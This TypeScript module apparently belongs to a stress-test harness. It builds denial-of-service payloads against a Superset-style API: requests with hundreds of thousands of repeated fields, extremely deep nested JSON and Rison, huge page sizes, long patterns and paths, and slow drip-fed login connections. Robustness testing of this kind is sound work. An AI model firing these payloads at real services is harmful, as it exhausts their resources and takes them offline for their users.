import { type AttackedDatabase, type Bomb, chartData, json, type Payload } from "./bomb.ts";

const MANY = [10_000, 300_000];

const times = <T>(n: number, item: (index: number) => T): T[] => Array.from({ length: n }, (_, i) => item(i));
const nested = (open: string, close: string, n: number): string => open.repeat(n) + close.repeat(n);
const form = (bytes: string): Payload => ({ contentType: "application/x-www-form-urlencoded", bytes });
const filter = { col: "name", op: "==", val: "a" };
const adhocFilter = { expressionType: "SIMPLE", subject: "name", operator: "==", comparator: "a" };
const metric = { expressionType: "SQL", sqlExpression: "count(*)" };

/** Bodies that are small for what they ask. */
export function bodyBombs(databases: readonly AttackedDatabase[]): Bomb[] {
  const [database] = databases as [AttackedDatabase];
  const query = (
    name: string,
    part: (n: number) => object,
    more: (n: number) => object = () => ({}),
  ): Bomb[] =>
    MANY.map((n) => ({
      name: `${n} ${name}`,
      kind: "body",
      path: "/api/v1/chart/data",
      payload: () => chartData(database, part(n), more(n)),
    }));
  const post = (name: string, path: string, payload: () => Payload): Bomb => ({
    name,
    kind: "body",
    path,
    payload,
  });
  const get = (name: string, path: string): Bomb => ({ name, kind: "body", method: "GET", path });
  return [
    ...query(
      "queries",
      () => ({}),
      (n) => ({ queries: times(n, () => ({})) }),
    ),
    ...query("columns", (n) => ({ columns: times(n, () => "id") })),
    ...query("columns of SQL", (n) => ({ columns: times(n, (i) => ({ ...metric, label: `c${i}` })) })),
    ...query("metrics", (n) => ({ metrics: times(n, (i) => ({ ...metric, label: `m${i}` })) })),
    ...query("names of metrics", (n) => ({ metrics: times(n, () => "count") })),
    ...query("filters", (n) => ({ columns: ["id"], filters: times(n, () => filter) })),
    ...query("values of a filter", (n) => ({
      columns: ["id"],
      filters: [{ col: "name", op: "IN", val: times(n, (i) => `v${i}`) }],
    })),
    ...query("orders", (n) => ({ columns: ["id"], orderby: times(n, () => ["id", true]) })),
    ...query("post-processing steps", (n) => ({
      columns: ["id"],
      metrics: ["count"],
      post_processing: times(n, () => ({ operation: "sort", options: { by: "count" } })),
    })),
    ...query("time offsets", (n) => ({ metrics: ["count"], time_offsets: times(n, (i) => `${i} days ago`) })),
    ...query("annotation layers", (n) => ({
      metrics: ["count"],
      annotation_layers: times(n, (i) => ({
        ...{ name: `a${i}`, value: "1", annotationType: "FORMULA", sourceType: "", show: true },
        overrides: {},
      })),
    })),
    ...query("unknown fields", (n) => Object.fromEntries(times(n, (i) => [`unknown${i}`, 1]))),
    ...query(
      "adhoc filters in the form",
      () => ({ columns: ["id"] }),
      (n) => ({
        form_data: { adhoc_filters: times(n, () => adhocFilter) },
      }),
    ),
    ...query("url parameters", (n) => ({
      columns: ["id"],
      url_params: Object.fromEntries(times(n, (i) => [`p${i}`, "v"])),
    })),
    ...MANY.flatMap((n) => [
      post(`JSON nested ${n} deep`, "/api/v1/chart/data", () => ({
        contentType: "application/json",
        bytes: `{"queries":${nested("[", "]", n)}}`,
      })),
      post(`objects nested ${n} deep`, "/api/v1/dashboard/", () => ({
        contentType: "application/json",
        bytes: `${'{"a":'.repeat(n)}1${"}".repeat(n)}`,
      })),
      post(`${n} fields of a form`, "/superset/explore_json/", () =>
        form(times(n, (i) => `f${i}=1`).join("&")),
      ),
      post(`${n} unknown fields of a dataset`, "/api/v1/dataset/", () =>
        json(Object.fromEntries(times(n, (i) => [`unknown${i}`, 1]))),
      ),
      post(`${n} owners`, "/api/v1/chart/", () =>
        json({
          slice_name: "bomb",
          viz_type: "table",
          datasource_id: database.datasetId,
          datasource_type: "table",
          owners: times(n, () => 1),
        }),
      ),
      post(`a layout of ${n} parts`, "/api/v1/dashboard/", () =>
        json({
          dashboard_title: "bomb",
          position_json: JSON.stringify(
            Object.fromEntries(
              times(n, (i) => [
                `CHART-${i}`,
                { id: `CHART-${i}`, type: "CHART", children: [`CHART-${i + 1}`], meta: { chartId: i } },
              ]),
            ),
          ),
        }),
      ),
      post(`${n} events`, "/api/v1/log/", () => json({ events: times(n, () => ({ event_name: "bomb" })) })),
      post(`a password of ${n * 10} letters`, "/api/v1/security/login", () =>
        json({ username: "admin", password: "x".repeat(n * 10), provider: "db", refresh: true }),
      ),
      post(`a permalink of ${n} keys`, "/api/v1/sqllab/permalink", () =>
        json({ name: "bomb", sql: "select 1", ...Object.fromEntries(times(n, (i) => [`k${i}`, i])) }),
      ),
      post(`JSON text of ${n} keys in a field`, "/api/v1/dashboard/", () =>
        json({
          dashboard_title: "bomb",
          json_metadata: JSON.stringify(Object.fromEntries(times(n, (i) => [`k${i}`, { a: i }]))),
        }),
      ),
    ]),
    get("a filter nested in Rison", `/api/v1/chart/?q=${"(a:".repeat(4_000)}1${")".repeat(4_000)}`),
    get("a long list in Rison", `/api/v1/chart/?q=!(${times(7_000, String).join(",")})`),
    get(
      "many filters of a list",
      `/api/v1/chart/?q=(filters:!(${times(300, () => "(col:slice_name,opr:ct,value:a)").join(",")}))`,
    ),
    get(
      "a pattern of a list",
      `/api/v1/chart/?q=(filters:!((col:slice_name,opr:ct,value:'${"%a".repeat(3_000)}')))`,
    ),
    get("a page of a billion", "/api/v1/chart/?q=(page:0,page_size:1000000000)"),
    get("the last page", "/api/v1/chart/?q=(page:9007199254740991,page_size:100)"),
    get("many values in the address", `/api/v1/chart/?${times(1_000, (i) => `a${i}=1`).join("&")}`),
    get("a long path", `/api/v1/chart/${"a/".repeat(6_000)}`),
    get("a percent sign at each place", `/api/v1/chart/${"%25".repeat(4_000)}`),
    get(
      "a range in words",
      `/api/v1/time_range/?q='${encodeURIComponent("dateadd(".repeat(1_000))}today${")".repeat(500)}'`,
    ),
    ...["last ".repeat(2_000), "datetrunc(".repeat(900), "1".repeat(6_000), " : ".repeat(2_000)].map((text) =>
      get(`a range of ${text.length} letters`, `/api/v1/time_range/?q='${encodeURIComponent(text)}'`),
    ),
  ];
}

/** Connections that send as slowly as they may. */
export const connectionBombs = (): Bomb[] =>
  Array.from({ length: 20 }, (_, i) => ({
    name: `a slow log-in, number ${i + 1}`,
    kind: "connection" as const,
    path: "/api/v1/security/login",
    payload: () => json({ username: "admin", password: "x".repeat(200), provider: "db" }),
    drip: { bytes: 1, everyMs: 3_000 },
  }));
